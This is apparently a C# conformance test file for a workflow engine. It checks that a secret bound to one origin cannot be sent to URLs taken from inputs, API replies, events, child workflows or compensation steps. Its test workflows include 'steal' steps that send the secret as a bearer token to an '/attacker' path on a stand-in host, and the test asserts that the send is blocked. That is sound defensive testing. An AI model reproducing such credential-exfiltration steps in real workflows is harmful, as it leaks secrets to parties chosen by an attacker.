using System.Text.Json;
using Countersign.Access;
using Countersign.Language;
using Countersign.Orchestration;
using Countersign.Workflows;

namespace Countersign.Conformance.Engines;

public abstract partial class EngineConformance
{
    /// <summary>A tenant that has a secret on every engine: <see cref="BoundSecret"/>, bound to <see cref="BoundOrigin"/>.</summary>
    public const string SecretTenant = "secrets";

    /// <summary>The name of the secret.</summary>
    public const string BoundSecret = "payments_key";

    /// <summary>Its only origin; no test may call it.</summary>
    public const string BoundOrigin = "https://pay.invalid";

    // The URL comes from the input, from what an API said, from an event's data, from a called workflow's input and from its output.
    [Theory]
    [InlineData("{ id: go, type: set, values: { x: 1 }, next: steal }", "${ input.to }/attacker")]
    [InlineData("{ id: go, type: api_call, url: $remote/echo, next: steal }", "${ steps.go.output.to }/attacker")]
    [InlineData("{ id: go, type: emit, event: custom.told, data: { to: '${ input.to }' }, next: steal }", "${ steps.go.output.to }/attacker")]
    [InlineData("{ id: go, type: call_workflow, workflow: $child, input: { to: '${ input.to }' }, next: steal }", "${ steps.go.output.to }/attacker")]
    public async Task Secret_UrlThatSomebodyElseChose_NothingArrives(string step, string url)
    {
        var name = "secret-" + Guid.NewGuid().ToString("N")[..12];
        Remote.On("/echo", 200, JsonSerializer.Serialize(new { to = Remote.Address }));
        var starter = new Principal(SecretTenant, "alice", [Role.Engineer]);
        await SaveAsync(starter, $$"""
            language: "1.0"
            name: {{name}}-child
            version: 1.0.0
            start: take
            output: { to: "${ input.to }" }
            steps:
              - id: take
                type: api_call
                url: "${ input.to }/attacker"
                headers: { Authorization: "Bearer ${ secret('{{BoundSecret}}') }" }
                catch: [{ type: secret.origin-not-allowed, goto: end }]
              - { id: end, type: set, values: { x: 1 } }
            """);
        var parent = await SaveAsync(starter, $$"""
            language: "1.0"
            name: {{name}}
            version: 1.0.0
            start: go
            steps:
              - {{step.Replace("$child", name + "-child", StringComparison.Ordinal)}}
              - id: steal
                type: api_call
                url: "{{url}}"
                headers: { Authorization: "Bearer ${ secret('{{BoundSecret}}') }" }
            """);
        var started = await Under.Core.Starts(Under.Engine).StartAsync(
            starter, new StartRequest { Workflow = parent.Name, Input = JsonSerializer.SerializeToElement(new { to = Remote.Address }) });

        var row = await EndedAsync(new RunIdentity(SecretTenant, started.Run.Id), RunStatus.Failed);

        Assert.Equal("secret.origin-not-allowed", row.Error!.Type);
        Assert.Contains($"'{BoundSecret}' cannot be sent to {Remote.Address}: it is bound to {BoundOrigin}", row.Error.Detail, StringComparison.Ordinal);
        Assert.Empty(Remote.CallsTo("/attacker"));
    }

    [Fact]
    public async Task Secret_CompensationWhoseUrlSomebodyElseChose_NothingArrives()
    {
        var starter = new Principal(SecretTenant, "alice", [Role.Engineer]);
        var definition = await SaveAsync(starter, $$"""
            language: "1.0"
            name: secret-{{Guid.NewGuid().ToString("N")[..12]}}
            version: 1.0.0
            start: pay
            steps:
              - id: pay
                type: api_call
                url: $remote/pay
                compensate: { type: api_call, method: DELETE, url: "${ input.to }/attacker", headers: { A: "${ secret('{{BoundSecret}}') }" } }
                next: stop
              - { id: stop, type: fail, error: custom.stop, title: Stop }
            """);
        var started = await Under.Core.Starts(Under.Engine).StartAsync(
            starter, new StartRequest { Workflow = definition.Name, Input = JsonSerializer.SerializeToElement(new { to = Remote.Address }) });

        await EndedAsync(new RunIdentity(SecretTenant, started.Run.Id), RunStatus.Failed);

        Assert.Single(Remote.CallsTo("/pay"));
        Assert.Empty(Remote.CallsTo("/attacker"));
    }

    private async Task<Definition> SaveAsync(Principal maker, string yaml)
    {
        var result = DefinitionReader.Read(yaml.Replace("$remote", Remote.Address, StringComparison.Ordinal));
        Assert.True(result.Definition is not null, string.Join(Environment.NewLine, result.Problems));
        await Under.Core.Workflows.SaveAsync(maker, result.Definition, SaveRequest.Plain());
        return result.Definition;
    }
}
